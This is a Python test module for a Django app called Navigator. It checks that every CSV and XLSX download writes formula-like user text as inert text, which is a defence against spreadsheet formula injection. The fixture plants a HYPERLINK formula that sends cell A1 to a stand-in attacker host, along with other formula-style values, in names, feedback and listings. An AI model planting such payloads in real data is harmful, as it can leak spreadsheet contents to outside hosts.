"""No download is a way to run a formula on the reader's computer: text people typed (a public
feedback comment, a reason a manager named, a person's name, a listing) that starts like a
formula is written as text in every CSV and XLSX cell Navigator produces.

The downloads are found, not listed: every URL the accessibility test lists as a CSV or XLSX
download (that table must name every URL), in every file format and report section."""

import csv
import io
from collections.abc import Callable, Iterator

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from navigator.accounts.permissions import Role
from navigator.accounts.tests.factories import OrganisationFactory, UserFactory
from navigator.core.spreadsheets import FORMULA_STARTS
from navigator.core.tests.test_accessibility import NOT_HTML
from navigator.directory.tests.factories import ServiceFactory
from navigator.feedback.models import FeedbackResponse
from navigator.people.tests.factories import PersonFactory
from navigator.referrals.states import State
from navigator.referrals.tests.factories import ReferralReasonFactory
from navigator.reports.selectors import SECTIONS
from navigator.reports.tests.helpers import at, referral

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
SUM = "=1+1"
JANUARY = {"start_day": "1", "start_month": "1", "start_year": "2026"}
FORMATS = ("csv", "xlsx")


@pytest.fixture
def world(organisation, manager, link_worker):
    """Formula-like text in everything a download can hold."""
    icb = OrganisationFactory(name="West Yorkshire ICB")
    icb.funds.add(organisation)
    commissioner = UserFactory(organisation=icb, role=Role.COMMISSIONER)
    reason = ReferralReasonFactory(organisation=organisation, name=SUM)
    person = PersonFactory(organisation=organisation, given_name=SUM, family_name=HYPERLINK)
    for days in range(6):
        case = referral(
            organisation, received=days, state=State.CLOSED, closed_at=days + 20, person=person
        )
        case.reasons.add(reason)
    FeedbackResponse.objects.create(
        organisation=organisation,
        referral=case,
        respondent="person",
        fft_answer="good",
        channel="link",
        occasion="closure",
        submitted_at=at(30),
        went_well=HYPERLINK,
        could_be_better="@SUM(A1:A2)",
    )
    ServiceFactory(name=SUM, description=HYPERLINK)
    return {
        "manager": manager,
        "commissioner": commissioner,
        "person": person,
        "link_worker": link_worker,
    }


# For each download URL: who downloads it, and the URL arguments of every file it serves.
DOWNLOADS: dict[str, tuple[str, Callable[[dict], Iterator[dict]]]] = {
    "trail:person_export": ("manager", lambda world: iter([{"pk": world["person"].pk}])),
    "trail:user_export": ("manager", lambda world: iter([{"pk": world["link_worker"].pk}])),
    "trail:review_export": ("manager", lambda world: iter([{}])),
    "directory:export_csv": ("manager", lambda world: iter([{}])),
    "reports:download": (
        "manager",
        lambda world: ({"slug": slug, "file_format": f} for slug in SECTIONS for f in FORMATS),
    ),
    "reports:commissioned_download": (
        "commissioner",
        lambda world: ({"slug": slug, "file_format": f} for slug in SECTIONS for f in FORMATS),
    ),
    "reports:prsb_dataset": ("manager", lambda world: ({"file_format": f} for f in FORMATS)),
}


def test_every_spreadsheet_download_is_checked():
    spreadsheets = {name for name, what in NOT_HTML.items() if "CSV" in what or "XLSX" in what}
    assert spreadsheets == set(DOWNLOADS)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def cells(response) -> Iterator[tuple[object, bool]]:
    """Each cell's text, and whether a spreadsheet would run it as a formula."""
    if response["Content-Type"].startswith("text/csv"):
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
            for cell in row:
                yield cell, cell.startswith(FORMULA_STARTS) and not _is_number(cell)
        return
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield cell.value, cell.data_type == "f"


def test_no_download_holds_a_formula(client, world, user_with_role):
    formulas, holding = [], set()
    for name, (viewer, arguments) in DOWNLOADS.items():
        client.force_login(world[viewer])
        for kwargs in arguments(world):
            url = reverse(name, kwargs=kwargs)
            response = client.get(url, JANUARY)
            assert response.status_code == 200, url
            for value, is_formula in cells(response):
                if is_formula:
                    formulas.append((url, value))
                if isinstance(value, str) and (SUM in value or "=HYPERLINK" in value):
                    holding.add(url)
    assert formulas == []
    # The planted text did reach the files the probe found it in.
    assert {
        "/reports/feedback.xlsx",
        "/reports/feedback.csv",
        "/reports/commissioned/flow.xlsx",
        "/reports/prsb-minimum-dataset.xlsx",
    } <= holding
